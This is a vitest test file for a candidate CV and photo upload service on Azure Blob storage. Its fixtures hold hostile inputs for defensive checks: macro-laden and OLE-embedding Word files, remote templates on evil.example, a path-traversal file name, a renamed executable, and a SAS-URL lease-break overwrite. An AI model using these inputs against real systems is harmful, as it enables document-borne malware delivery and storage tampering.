import { describe, expect, it } from "vitest";
import { registeredTimers } from "../shared/http/timers.js";
import { BLOB_CONTAINERS, blobContainer, blobInfo, candidatePrefix, copyToFiles, snapshotUpload } from "../shared/storage/blob.js";
import { snapshotReadLink } from "../shared/storage/sas.js";
import { cleanupUploads } from "../shared/services/uploads.js";
import { HEAD_BYTES, TAIL_BYTES } from "../shared/domain/uploads.js";
import { randomBytes } from "node:crypto";
import { BlockBlobClient } from "@azure/storage-blob";
import { container } from "../shared/data/cosmos.js";
import { readUpload } from "../shared/data/uploads.js";
import { employerUser, newMunicipality, sharedCandidate, signedUpCandidate, tokenFor } from "./support/factories.js";
import { contentTypes, docx, DOCX_TYPE, exe, jpeg, mp4, pdf, png, REL, rels, wordDocument, zip } from "./support/files.js";
import { call, type Problem, type Response, type Schema } from "./support/http.js";
import { complete, upload } from "./support/uploads.js";
import { startFaultProxy } from "./support/fault-proxy.js";
import { testClock, testRuntime } from "./support/runtime.js";
import { anyNumber, matching } from "./support/matchers.js";

/** The candidate's blobs in every container (uploads and verified files). */
async function anyBlobsOf(m: string, id: string): Promise<string[]> {
  const names: string[] = [];
  for (const which of Object.keys(BLOB_CONTAINERS) as (keyof typeof BLOB_CONTAINERS)[]) {
    for await (const b of (await blobContainer(which)).listBlobsFlat({ prefix: candidatePrefix(m, id) })) names.push(`${which}:${b.name}`);
  }
  return names;
}

async function blobsOf(m: string, id: string): Promise<string[]> {
  const names: string[] = [];
  for await (const b of (await blobContainer("candidateFiles")).listBlobsFlat({ prefix: candidatePrefix(m, id) })) names.push(b.name);
  return names;
}

describe("uploads", () => {
  it("when a candidate uploads a CV, then it is verified, attached, and a coach downloads the same bytes as an attachment", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const bytes = pdf(5000);

    const { ticket, putStatus } = await upload(c.token, "cv", "application/pdf", bytes, { fileName: '../../Mijn "CV".pdf' });
    const done = await complete(c.token, ticket.uploadId);

    expect(putStatus).toBe(201);
    expect(ticket.uploadUrl).toContain(`/${m}/${c.id}/cv/${ticket.uploadId}?`);
    expect(done.status).toBe(200);
    expect(done.body.files.cv).toMatchObject({
      contentType: "application/pdf",
      size: 5000,
      fileName: "Mijn CV.pdf",
      uploadId: ticket.uploadId,
    });
    // The file name travelled with the blob; the upload's own record never held it.
    expect(await readUpload(ticket.uploadId)).not.toHaveProperty("fileName");
    const link = await call<Schema<"FileLink">>("GET", `/api/candidates/${c.id}/files/cv`, { token: c.coach });
    expect(link.status).toBe(200);
    const download = await fetch(link.body.url);
    expect(download.headers.get("content-disposition")).toMatch(/^attachment; filename="Mijn CV.pdf"/);
    expect(Buffer.from(await download.arrayBuffer()).equals(bytes)).toBe(true);
  });

  it("when a real Word document is uploaded, then it passes; a zip passed off as one is refused and removed", async () => {
    const c = await signedUpCandidate(newMunicipality());
    const good = await upload(c.token, "cv", DOCX_TYPE, docx());
    expect((await complete(c.token, good.ticket.uploadId)).status).toBe(200);

    const fake = await upload(c.token, "cv", DOCX_TYPE, zip({ "hello.txt": "not a document" }));
    const res = await complete<Problem>(c.token, fake.ticket.uploadId);

    expect(res.status).toBe(422);
    expect(res.body.detail).toMatch(/not a Word/);
    expect(await blobInfo((await readUpload(fake.ticket.uploadId))!.blobName, "candidateUploads")).toBeUndefined();
  });

  it("when a Word document carries macros, then it is refused and removed", async () => {
    const c = await signedUpCandidate(newMunicipality());
    const macro = await upload(
      c.token,
      "cv",
      DOCX_TYPE,
      zip({ "[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>", "word/VBAProject.bin": "VBA" }),
    );
    const res = await complete<Problem>(c.token, macro.ticket.uploadId);
    expect(res.status).toBe(422);
    expect(res.body.detail).toMatch(/macros/);
  });

  it("when a Word document hides macros, objects or a remote template behind innocent part names, then 422 names the reason and the blob is gone", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const plain = await upload(c.token, "cv", DOCX_TYPE, wordDocument());
    expect((await complete(c.token, plain.ticket.uploadId)).status).toBe(200);
    await call("DELETE", "/api/me/files/cv", { token: c.token });

    const attacks: [string, Buffer, RegExp][] = [
      [
        "a renamed vbaProject.bin",
        wordDocument({
          "[Content_Types].xml": contentTypes(
            '<Override PartName="/word/custom.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
            "application/vnd.ms-word.document.macroEnabled.main+xml",
          ),
          "word/_rels/document.xml.rels": rels(`<Relationship Id="rId9" Type="${REL.vbaProject}" Target="custom.dat"/>`),
          "word/custom.dat": "VBA",
        }),
        /macros/,
      ],
      [
        "an embedded oleObject1.bin",
        wordDocument({
          "[Content_Types].xml": contentTypes(
            '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
          ),
          "word/embeddings/oleObject1.bin": "OLE",
        }),
        /OLE\/ActiveX/,
      ],
      [
        "an OLE object under another name",
        wordDocument({
          "[Content_Types].xml": contentTypes(
            '<Override PartName="/word/embeddings/e1.dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
          ),
          "word/embeddings/e1.dat": "OLE",
        }),
        /OLE\/ActiveX/,
      ],
      [
        "a remote attachedTemplate",
        wordDocument({
          "word/_rels/settings.xml.rels": rels(
            `<Relationship Id="rId1" Type="${REL.attachedTemplate}" Target="https://evil.example/normal.dotm" TargetMode="External"/>`,
          ),
        }),
        /outside the file.*attachedtemplate/,
      ],
    ];
    for (const [what, bytes, reason] of attacks) {
      const { ticket } = await upload(c.token, "cv", DOCX_TYPE, bytes);
      const res = await complete<Problem>(c.token, ticket.uploadId);
      expect(res.status, what).toBe(422);
      expect(res.headers["content-type"], what).toBe("application/problem+json");
      expect(res.body.detail, what).toMatch(reason);
    }
    expect(await anyBlobsOf(m, c.id)).toEqual([]);
    expect((await call<Schema<"CandidateOwnView">>("GET", "/api/me/profile", { token: c.token })).body.files).toEqual({});
  });

  it("when a large Word document loads a remote template from a part in its middle, then a few range reads find it", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const bytes = wordDocument({
      "word/document.xml": randomBytes(30_000).toString("base64"),
      "word/media/image1.png": randomBytes(600_000),
      "word/_rels/settings.xml.rels": rels(
        `<Relationship Id="rId1" Type="${REL.attachedTemplate}" Target="\\\\evil.example\\t.dotm" TargetMode="External"/>`,
      ),
      "word/media/image2.png": randomBytes(600_000),
    });
    const { ticket } = await upload(c.token, "cv", DOCX_TYPE, bytes);
    // From here the app reads Blob storage through a proxy that counts the bytes it answers.
    const storage = testRuntime().config.STORAGE_CONNECTION_STRING!;
    const origin = new URL(/BlobEndpoint=([^;]+);/.exec(storage)![1]!).origin;
    const counting = await startFaultProxy(origin, "blob");
    testRuntime({ STORAGE_CONNECTION_STRING: storage.replace(origin, counting.url) });

    const res = await complete<Problem>(c.token, ticket.uploadId).finally(() => testRuntime());
    await counting.close();

    expect(res.status).toBe(422);
    expect(res.body.detail).toMatch(/outside the file/);
    // head, tail, and two small ranges (document.xml.rels, settings.xml.rels) of a 1.2 MB file
    expect(counting.answeredBytes).toBeGreaterThan(0);
    expect(counting.answeredBytes).toBeLessThan(HEAD_BYTES + TAIL_BYTES + 8 * 1024);
    expect(await anyBlobsOf(m, c.id)).toEqual([]);
  });

  it("when the file name holds a BSN, declared at the start or set on the PUT, then it is refused", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const start = <T>(fileName: string) =>
      call<T>("POST", "/api/me/uploads", { token: c.token, body: { kind: "cv", contentType: "application/pdf", size: 2000, fileName } });
    for (const fileName of ["BSN 111222333.pdf", "１１１２２２３３３.pdf", "bsn_111.222.333.pdf"]) {
      const refused = await start<Schema<"ValidationProblem">>(fileName);
      expect(refused.status, fileName).toBe(400);
      expect(refused.body.errors, fileName).toEqual([{ path: "fileName", message: matching(/citizen service number/) }]);
    }

    // A client that sends another name in the blob's metadata than the one it declared.
    const ok = await start<Schema<"UploadTicket">>("cv.pdf");
    const put = await fetch(ok.body.uploadUrl, {
      method: "PUT",
      headers: { ...ok.body.headers, "x-ms-meta-filename": encodeURIComponent("BSN 111 222 333.pdf") },
      body: pdf(2000),
    });
    expect(put.status).toBe(201);
    const res = await complete<Problem>(c.token, ok.body.uploadId);

    expect(res.status).toBe(422);
    expect(res.body.detail).toMatch(/file name .*BSN/);
    expect(await anyBlobsOf(m, c.id)).toEqual([]);
  });

  it("when a candidate starts many uploads and finishes none, then after ten more are refused with 429", async () => {
    const c = await signedUpCandidate(newMunicipality());
    const start = () =>
      call("POST", "/api/me/uploads", { token: c.token, body: { kind: "photo", contentType: "image/jpeg", size: 10, fileName: "a.jpg" } });
    for (let i = 0; i < 10; i++) expect((await start()).status).toBe(201);
    const refused = await start();
    expect(refused.status).toBe(429);
    expect(refused.headers["retry-after"]).toBe("3600");
  });

  it("when kind, type or size are not allowed, then 400 before any URL is handed out", async () => {
    const c = await signedUpCandidate(newMunicipality());
    const start = <T>(body: object) =>
      call<T>("POST", "/api/me/uploads", {
        token: c.token,
        body: { kind: "photo", contentType: "image/jpeg", size: 10, fileName: "a.jpg", ...body },
      });
    expect((await start({ contentType: "image/gif" })).status).toBe(400);
    const big = await start<Problem>({ kind: "video", contentType: "video/mp4", size: 600 * 1024 * 1024 });
    expect(big.status).toBe(400);
    expect(big.body.detail).toMatch(/at most 500 MB/);
    expect((await start({ kind: "spreadsheet" })).status).toBe(400);
    expect((await start({ size: 0 })).status).toBe(400);
  });

  it("when a renamed executable or a size lie arrives, then 422 names the reason and the blob is gone", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const renamed = await upload(c.token, "cv", "application/pdf", exe(), { fileName: "cv.pdf" });
    const lie = await upload(c.token, "photo", "image/png", png(3000), { declaredSize: 1000 });

    const r1 = await complete<Problem>(c.token, renamed.ticket.uploadId);
    const r2 = await complete<Problem>(c.token, lie.ticket.uploadId);

    expect(r1.status).toBe(422);
    expect(r1.body.detail).toMatch(/not application\/pdf/);
    expect(r2.status).toBe(422);
    expect(r2.body.detail).toMatch(/3000 bytes arrived but 1000 were declared/);
    expect(await anyBlobsOf(m, c.id)).toEqual([]);
    expect((await call<Schema<"CandidateOwnView">>("GET", "/api/me/profile", { token: c.token })).body.files).toEqual({});
  });

  it("when nothing was uploaded yet, then 422 and the upload can still be completed later", async () => {
    const c = await signedUpCandidate(newMunicipality());
    const start = await call<Schema<"UploadTicket">>("POST", "/api/me/uploads", {
      token: c.token,
      body: { kind: "photo", contentType: "image/jpeg", size: 3000, fileName: "me.jpg" },
    });
    expect((await complete(c.token, start.body.uploadId)).status).toBe(422);
    await fetch(start.body.uploadUrl, { method: "PUT", headers: start.body.headers, body: jpeg() });
    expect((await complete(c.token, start.body.uploadId)).status).toBe(200);
  });

  it("when the upload URL has expired, then Blob storage refuses the bytes", async () => {
    const c = await signedUpCandidate(newMunicipality());
    testClock.set(() => new Date(Date.now() - 3600_000));
    const start = await call<Schema<"UploadTicket">>("POST", "/api/me/uploads", {
      token: c.token,
      body: { kind: "cv", contentType: "application/pdf", size: 2000, fileName: "cv.pdf" },
    });
    testClock.set(undefined);
    const put = await fetch(start.body.uploadUrl, { method: "PUT", headers: start.body.headers, body: pdf() });
    expect(put.status).toBe(403);
  });

  it("when someone else's upload is completed or one is completed twice, then 404 or 409", async () => {
    const m = newMunicipality();
    const a = await signedUpCandidate(m);
    const b = await signedUpCandidate(m);
    const { ticket } = await upload(a.token, "cv", "application/pdf", pdf());
    expect((await complete(b.token, ticket.uploadId)).status).toBe(404);
    expect((await complete(a.token, ticket.uploadId)).status).toBe(200);
    expect((await complete(a.token, ticket.uploadId)).status).toBe(409);
    expect((await complete(a.token, "20261128-not-an-upload")).status).toBe(404);
  });

  it("when the still-valid upload URL breaks the lease and overwrites after completion, then download links still serve the verified bytes", async () => {
    const m = newMunicipality();
    const c = await sharedCandidate(m);
    const employer = await employerUser(newMunicipality());
    const bytes = pdf(1009);
    const { ticket } = await upload(c.token, "cv", "application/pdf", bytes, { fileName: "cv.pdf" });
    expect((await complete(c.token, ticket.uploadId)).status).toBe(200);

    // What the attacker does with the upload URL, exactly as it was handed out (create + write only).
    expect(new URL(ticket.uploadUrl).searchParams.get("sp")).toBe("cw");
    const lease = await fetch(`${ticket.uploadUrl}&comp=lease`, {
      method: "PUT",
      headers: { "x-ms-version": "2025-01-05", "x-ms-lease-action": "break", "x-ms-lease-break-period": "0" },
    });
    const overwrite = await fetch(ticket.uploadUrl, { method: "PUT", headers: ticket.headers, body: exe(5 * 1024 * 1024) });

    expect([202, 404]).toContain(lease.status); // 404: the upload itself is gone once verified
    expect(overwrite.status).toBe(201); // the URL still writes, but only to the uploads container
    for (const token of [c.coach, employer.token]) {
      const link = await call<Schema<"FileLink">>("GET", `/api/candidates/${c.id}/files/cv`, { token });
      expect(link.status).toBe(200);
      expect(new URL(link.body.url).pathname).toContain(`/candidate-files/${m}/${c.id}/cv/${ticket.uploadId}`);
      const download = await fetch(link.body.url);
      const served = Buffer.from(await download.arrayBuffer());
      expect(served.length).toBe(1009);
      expect(served.equals(bytes)).toBe(true);
    }
    expect((await call<Schema<"CandidateStaffView">>("GET", `/api/candidates/${c.id}`, { token: c.coach })).body.files.cv).toMatchObject({
      size: 1009,
      fileName: "cv.pdf",
    });

    // What the URL wrote is never verified and goes with the hourly cleanup; the verified copy stays.
    testClock.set(() => new Date(Date.now() + 2 * 86_400_000));
    await cleanupUploads({ municipalityId: m });
    expect(await anyBlobsOf(m, c.id)).toEqual([`candidateFiles:${candidatePrefix(m, c.id)}cv/${ticket.uploadId}`]);
  });

  it("when complete is called many times at once, then exactly one 200 and the others 409, never 500", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const { ticket } = await upload(c.token, "photo", "image/jpeg", jpeg());

    const answers = await Promise.all(Array.from({ length: 8 }, () => complete(c.token, ticket.uploadId)));

    expect(answers.map((a) => a.status).sort()).toEqual([200, 409, 409, 409, 409, 409, 409, 409]);
    expect((await readUpload(ticket.uploadId))!.status).toBe("completed");
    expect(await anyBlobsOf(m, c.id)).toEqual([`candidateFiles:${candidatePrefix(m, c.id)}photo/${ticket.uploadId}`]);
  });

  it("when a verified file is over the synchronous copy limit, then it is copied asynchronously from the checked snapshot", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const start = await call<Schema<"UploadTicket">>("POST", "/api/me/uploads", {
      token: c.token,
      body: { kind: "video", contentType: "video/mp4", size: 50_000, fileName: "pitch.mp4" },
    });
    const bytes = mp4(50_000);
    await fetch(start.body.uploadUrl, { method: "PUT", headers: start.body.headers, body: bytes });
    const { blobName } = (await readUpload(start.body.uploadId))!;
    const { etag } = (await blobInfo(blobName, "candidateUploads"))!;

    const snapshot = await snapshotUpload(blobName, etag);
    await fetch(start.body.uploadUrl, { method: "PUT", headers: start.body.headers, body: exe(50_000) }); // changed after the check
    await copyToFiles((await snapshotReadLink(blobName, snapshot!, 5)).url, blobName, bytes.length, { syncMaxBytes: 0 });

    expect(await snapshotUpload(blobName, etag)).toBeUndefined(); // no snapshot of another version than the checked one
    const copied = await (await blobContainer("candidateFiles")).getBlobClient(blobName).downloadToBuffer();
    expect(copied.equals(bytes)).toBe(true);
  });

  it("when the uploader takes a lease on the blob, then refusing and deleting still work", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const lie = await upload(c.token, "cv", "application/pdf", pdf(2000), { declaredSize: 1000 });
    await new BlockBlobClient(lie.ticket.uploadUrl).getBlobLeaseClient().acquireLease(-1);
    const good = await upload(c.token, "photo", "image/jpeg", jpeg());
    await new BlockBlobClient(good.ticket.uploadUrl).getBlobLeaseClient().acquireLease(-1);

    expect((await complete(c.token, lie.ticket.uploadId)).status).toBe(422);
    expect((await complete(c.token, good.ticket.uploadId)).status).toBe(200);
    expect((await call("DELETE", "/api/me/files/photo", { token: c.token })).status).toBe(204);
    expect(await anyBlobsOf(m, c.id)).toEqual([]);
  });

  it("when a completion was cut off before its record was updated, then the cleanup keeps the file the profile points to", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const { ticket } = await upload(c.token, "cv", "application/pdf", pdf());
    await complete(c.token, ticket.uploadId);
    const record = (await readUpload(ticket.uploadId))!;
    await container("uploads")
      .item(record.id, record.day)
      .patch([{ op: "set", path: "/status", value: "pending" }]);

    testClock.set(() => new Date(Date.now() + 2 * 86_400_000));
    await cleanupUploads({ municipalityId: m });

    expect(await anyBlobsOf(m, c.id)).toEqual([`candidateFiles:${candidatePrefix(m, c.id)}cv/${ticket.uploadId}`]);
    expect(await readUpload(ticket.uploadId)).toBeUndefined();
  });

  it("when a new photo replaces the old one, then the old blob is deleted", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const first = await upload(c.token, "photo", "image/jpeg", jpeg());
    await complete(c.token, first.ticket.uploadId);
    const second = await upload(c.token, "photo", "image/png", png());

    const res = await complete(c.token, second.ticket.uploadId);

    expect(res.body.files.photo?.uploadId).toBe(second.ticket.uploadId);
    expect(await anyBlobsOf(m, c.id)).toEqual([`candidateFiles:${candidatePrefix(m, c.id)}photo/${second.ticket.uploadId}`]);
  });

  it("when an employer may not see the candidate, then the file link is 404; once shared, 200", async () => {
    const m = newMunicipality();
    const c = await sharedCandidate(m);
    const { ticket } = await upload(c.token, "video", "video/mp4", mp4());
    await complete(c.token, ticket.uploadId);
    const employer = await employerUser(newMunicipality());

    expect((await call("GET", `/api/candidates/${c.id}/files/video`, { token: employer.token })).status).toBe(200);
    await call("PUT", "/api/me/sharing", { token: c.token, body: { withEmployers: false } });
    expect((await call("GET", `/api/candidates/${c.id}/files/video`, { token: employer.token })).status).toBe(404);
    expect((await call("GET", `/api/candidates/${c.id}/files/cv`, { token: c.coach })).status).toBe(404);
  });

  it("when the candidate deletes a file, then the blob and the reference are gone", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const { ticket } = await upload(c.token, "cv", "application/pdf", pdf());
    await complete(c.token, ticket.uploadId);

    expect((await call("DELETE", "/api/me/files/cv", { token: c.token })).status).toBe(204);
    expect(await blobsOf(m, c.id)).toEqual([]);
    expect((await call<Schema<"CandidateOwnView">>("GET", "/api/me/profile", { token: c.token })).body.files).toEqual({});
    expect((await call("DELETE", "/api/me/files/cv", { token: c.token })).status).toBe(404);
  });

  it("when a legal hold applies, then deleting a file is 409 with the reason and the file stays; once lifted, 204", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const { ticket } = await upload(c.token, "cv", "application/pdf", pdf());
    await complete(c.token, ticket.uploadId);
    const admin = await tokenFor("admin", m);
    await call("PUT", `/api/candidates/${c.id}/legal-hold`, { token: admin, body: { hold: true, reason: "lopende bezwaarprocedure" } });

    const refused = await call<Problem>("DELETE", "/api/me/files/cv", { token: c.token });

    expect(refused.status).toBe(409);
    expect(refused.body.detail).toMatch(/legal hold.*lopende bezwaarprocedure.*Art\. 17\(3\)\(e\)/);
    expect(await anyBlobsOf(m, c.id)).toEqual([`candidateFiles:${candidatePrefix(m, c.id)}cv/${ticket.uploadId}`]);
    expect((await call<Schema<"CandidateOwnView">>("GET", "/api/me/profile", { token: c.token })).body.files.cv?.uploadId).toBe(
      ticket.uploadId,
    );

    await call("PUT", `/api/candidates/${c.id}/legal-hold`, { token: admin, body: { hold: false } });
    expect((await call("DELETE", "/api/me/files/cv", { token: c.token })).status).toBe(204);
    expect(await anyBlobsOf(m, c.id)).toEqual([]);
  });

  it("when a legal hold applies, then a new upload may not replace a file: 409 with the reason, the new upload is removed, the old file stays; a first file of another kind is attached", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const first = await upload(c.token, "photo", "image/jpeg", jpeg());
    await complete(c.token, first.ticket.uploadId);
    const admin = await tokenFor("admin", m);
    await call("PUT", `/api/candidates/${c.id}/legal-hold`, { token: admin, body: { hold: true, reason: "lopende bezwaarprocedure" } });
    const second = await upload(c.token, "photo", "image/png", png());

    const refused = await complete<Problem>(c.token, second.ticket.uploadId);

    expect(refused.status).toBe(409);
    expect(refused.body.detail).toMatch(
      /legal hold.*lopende bezwaarprocedure.*Art\. 17\(3\)\(e\).*new upload was not attached and has been removed/,
    );
    expect(await anyBlobsOf(m, c.id)).toEqual([`candidateFiles:${candidatePrefix(m, c.id)}photo/${first.ticket.uploadId}`]);
    expect((await readUpload(second.ticket.uploadId))?.status).toBe("failed");
    expect((await call<Schema<"CandidateOwnView">>("GET", "/api/me/profile", { token: c.token })).body.files.photo?.uploadId).toBe(
      first.ticket.uploadId,
    );
    expect((await complete(c.token, second.ticket.uploadId)).status).toBe(409);

    const cv = await upload(c.token, "cv", "application/pdf", pdf());
    const added = await complete(c.token, cv.ticket.uploadId);
    expect(added.status).toBe(200);
    expect(added.body.files.photo?.uploadId).toBe(first.ticket.uploadId);
    expect(added.body.files.cv?.uploadId).toBe(cv.ticket.uploadId);
  });

  it("when two photos are completed at once under a legal hold and there is none yet, then one is attached and the other refused with 409, leaving no blob of it", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const admin = await tokenFor("admin", m);
    await call("PUT", `/api/candidates/${c.id}/legal-hold`, { token: admin, body: { hold: true, reason: "lopende bezwaarprocedure" } });
    const a = await upload(c.token, "photo", "image/jpeg", jpeg());
    const b = await upload(c.token, "photo", "image/png", png());

    const results = await Promise.all([a, b].map((u) => complete<Schema<"CandidateOwnView"> | Problem>(c.token, u.ticket.uploadId)));

    expect(results.map((r) => r.status).sort()).toEqual([200, 409]);
    const refused = results.find((r): r is Response<Problem> => r.status === 409)!;
    expect(refused.body.detail).toMatch(/legal hold.*lopende bezwaarprocedure.*new upload was not attached and has been removed/);
    const attached = results.find((r): r is Response<Schema<"CandidateOwnView">> => r.status === 200)!.body.files.photo?.uploadId;
    expect(await anyBlobsOf(m, c.id)).toEqual([`candidateFiles:${candidatePrefix(m, c.id)}photo/${attached}`]);
    expect((await call<Schema<"CandidateOwnView">>("GET", "/api/me/profile", { token: c.token })).body.files.photo?.uploadId).toBe(
      attached,
    );
  });

  it("when uploads are started and never completed, then the cleanup timer removes them after their URL expired", async () => {
    const m = newMunicipality();
    const c = await signedUpCandidate(m);
    const abandoned = await upload(c.token, "cv", "application/pdf", pdf());
    const kept = await upload(c.token, "photo", "image/jpeg", jpeg());
    await complete(c.token, kept.ticket.uploadId);
    const cleanup = registeredTimers.find((t) => t.name === "uploadsCleanup")!;

    const early = await cleanup.run({} as never);
    const untouched = await readUpload(abandoned.ticket.uploadId);
    // Later, for this municipality only: uploads of other test files running now stay untouched.
    testClock.set(() => new Date(Date.now() + 2 * 86_400_000));
    const later = await cleanupUploads({ municipalityId: m });

    expect(early).toMatchObject({ removedBlobs: 0, failed: 0 });
    expect(untouched).toMatchObject({ status: "pending" });
    expect(later).toMatchObject({ removedBlobs: anyNumber, failed: 0 });
    expect(await readUpload(abandoned.ticket.uploadId)).toBeUndefined();
    expect(await readUpload(kept.ticket.uploadId)).toBeUndefined();
    expect(await anyBlobsOf(m, c.id)).toEqual([`candidateFiles:${candidatePrefix(m, c.id)}photo/${kept.ticket.uploadId}`]);
  });
});
